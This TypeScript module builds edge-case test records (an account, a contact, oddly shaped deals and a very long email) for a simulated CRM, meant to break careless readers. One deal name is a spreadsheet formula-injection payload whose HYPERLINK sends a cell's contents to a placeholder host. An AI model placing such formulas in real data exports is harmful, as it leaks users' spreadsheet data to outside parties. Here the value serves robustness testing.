/**
 * A few records that every world has, made to break careless readers: odd amounts, a name of the
 * greatest length, a very long text.
 */
import { DAY_MS, isoDate, momentOf } from './calendar.ts';
import type { Channel } from './channel.ts';
import type { WorldEvent } from './events.ts';
import { clip } from './names.ts';
import { settledPartners } from './partners.ts';

/** The longest text a Salesforce task description holds. */
export const LONG_TEXT_LENGTH = 32_000;
const NAME_LENGTH = 120;

/** An account that many deals of odd shape hang on, entered eight weeks before the end. */
export function hostileEvents(channel: Channel): WorldEvent[] {
  const week = channel.endWeek - 8;
  const atMs = momentOf(week, 0, 9);
  const ownerId = channel.staff.acting(0, channel.endMs).id;
  const partnerId = settledPartners(channel.partners, channel.endMs)[0]?.id ?? null;
  const events: WorldEvent[] = [
    {
      kind: 'account',
      id: 'ax',
      atMs,
      name: 'L\'Été \\ "Œuvre" 🧨 GmbH & Co. KG',
      industry: 'Other',
      country: 'France',
      website: 'https://ete.example/?a=1&b=%27',
      ownerId,
      parentId: null,
      partner: null,
    },
    {
      kind: 'contact',
      id: 'cx',
      atMs,
      accountId: 'ax',
      firstName: 'Zoë 🧨',
      lastName: "O'Null",
      email: "o'null@ete.example",
      title: 'N/A',
    },
  ];
  const odd: { name: string; amount: number | null; closeOn: string | null }[] = [
    {
      name: '=HYPERLINK("http://example.invalid/?"&A1,"Open me")',
      amount: 0,
      closeOn: isoDate(atMs + 90 * DAY_MS),
    },
    { name: "Credit note \\ O'Null", amount: -1500, closeOn: isoDate(atMs + 90 * DAY_MS) },
    { name: '報価 🧨 без суммы', amount: null, closeOn: null },
    {
      name: clip('Ω'.repeat(NAME_LENGTH), NAME_LENGTH),
      amount: 0.01,
      closeOn: isoDate(atMs - 400 * DAY_MS),
    },
  ];
  odd.forEach((deal, k) =>
    events.push({
      kind: 'deal',
      id: `dh${k}`,
      atMs: atMs + (k + 1) * 60_000,
      ...deal,
      accountId: 'ax',
      ownerId,
      partnerId,
      role: partnerId === null ? null : 'sourced',
      campaignId: null,
      stage: 'qualification',
      currency: channel.currency,
      product: 'Support Plus',
      source: null,
      registration: null,
    }),
  );
  const textMs = momentOf(week, 1, 9);
  events.push({
    kind: 'activity',
    id: 'th0',
    atMs: textMs,
    type: 'email',
    subject: `Long mail: ${'wörd \u{1F9E8} '.repeat(LONG_TEXT_LENGTH)}`.slice(
      0,
      LONG_TEXT_LENGTH - 1,
    ),
    dealId: 'dh0',
    accountId: null,
    contactId: 'cx',
    ownerId,
    onMs: textMs,
    minutes: 0,
    done: true,
    withBuyer: true,
  });
  return events;
}
